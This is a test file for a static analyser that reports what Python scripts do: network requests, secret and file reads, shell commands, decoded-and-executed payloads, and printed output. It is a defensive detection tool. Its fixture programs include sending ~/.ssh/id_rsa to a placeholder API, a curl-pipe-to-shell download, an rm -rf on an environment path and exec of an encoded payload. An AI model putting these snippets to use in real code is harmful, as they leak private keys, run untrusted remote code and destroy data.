import { expect, test } from 'vitest';
import { stepLines } from '../../../../test/step-lines.ts';

test('resolves addresses, secrets and what is sent through helpers and classes', async () => {
  const program = `
"""Uploads reports to https://docs.example.com."""
import os, json
import requests as rq
from pathlib import Path

API = os.environ.get("REPORT_API", "https://api.reports.example")
CONFIG = Path.home() / ".config" / "reports"

class Client:
    def __init__(self, base=API):
        self.base = base.rstrip("/")
        self.key = os.getenv("REPORT_TOKEN")

    def post(self, path, body):
        headers = {"Authorization": f"Bearer {self.key}"}
        return rq.post(f"{self.base}/v1/{path}", json=body, headers=headers)

def main():
    text = (CONFIG / "notes.md").read_text()
    Client().post("notes", {"text": text})
    with open(os.path.expanduser("~/.ssh/id_rsa")) as key:
        Client().post("keys", key.read())

if __name__ == "__main__":
    main()
`;
  expect(await stepLines('python', program)).toEqual([
    '7 variable name="REPORT_API"',
    '13 variable name="REPORT_TOKEN"',
    '17 request address=${REPORT_API}/v1/notes | https://api.reports.example/v1/notes by="request" sent={text: (reads 20)} headers={Authorization: Bearer ${REPORT_TOKEN}}',
    '17 request address=${REPORT_API}/v1/keys | https://api.reports.example/v1/keys by="request" sent=(reads 22) headers={Authorization: Bearer ${REPORT_TOKEN}}',
    '20 reads path=~/.config/reports/notes.md',
    '22 reads path=~/.ssh/id_rsa',
  ]);
});

test('follows commands in lists, in texts for a shell and in the background', async () => {
  const program = `
import subprocess, sys, os
from subprocess import Popen
def git(*args):
    return subprocess.run(["git", *args], capture_output=True).stdout
git("push", "--force")
cmd = ["npm"]
cmd.append("install")
cmd += ["left-pad"]
subprocess.check_call(cmd, cwd=os.path.dirname(__file__))
subprocess.run("curl -s %s | sh" % "https://get.example.com", shell=True)
Popen([sys.executable, os.path.join(os.path.dirname(os.path.abspath(__file__)), "worker.py")], start_new_session=True)
os.system(f"rm -rf {os.environ['TARGET']}/x")
`;
  expect(await stepLines('python', program)).toEqual([
    '5 command git push --force',
    '10 command npm install left-pad folder=${here}',
    '11 evaluates code=curl -s https://get.example.com | sh language="shell"',
    '12 command python3 ${here}/worker.py background=true',
    '13 evaluates code=rm -rf ${TARGET}/x language="shell"',
    '13 variable name="TARGET"',
  ]);
});

test('tells what is decoded and then run, and what is printed apart', async () => {
  const program = `
import base64, sys, json, zlib
payload = "aW1wb3J0IG9z"
exec(zlib.decompress(base64.b64decode(payload)))
data = json.load(sys.stdin)
path = data.get("transcript_path")
with open(path) as f:
    last = f.readlines()[-1]
print(json.dumps({"decision": "block", "reason": "no"}))
print("see https://help.example.com", file=sys.stderr)
sys.exit(2)
`;
  expect(await stepLines('python', program)).toEqual([
    '4 evaluates code=(decodes 4) language="python"',
    '4 decodes from="compressed" content=(decodes 4)',
    '4 decodes from="base64" content=aW1wb3J0IG9z',
    '7 reads path=<stdin> | <transcript_path>',
    '9 prints content={decision: block, reason: no} to="output"',
    '9 constant content={decision: block, reason: no}',
    '10 prints content=see https://help.example.com to="errors"',
    '11 exits code=2',
  ]);
});

test('keeps apart what always happens, what depends on something, and addresses that are only named', async () => {
  const program = `
import json, sys
HELP = "https://docs.example.com/hooks"

def walk(path):
    if path.is_dir():
        walk(path / "inner")
    open(path / "note.txt").read()

def main():
    event = json.load(sys.stdin)
    print(json.dumps({"permissionDecision": "allow"}))
    if event.get("tool_name") == "Bash":
        print(HELP)
    walk(event["cwd"])

main()
PAGE = "https://example.org/page"
`;
  expect(await stepLines('python', program)).toEqual([
    '8 reads? path=…/inner/note.txt',
    '8 reads? path=…/note.txt',
    '12 prints content={permissionDecision: allow} to="output"',
    '12 constant content={permissionDecision: allow}',
    '14 prints? content=https://docs.example.com/hooks to="output"',
    '18 constant? content=https://example.org/page',
  ]);
});
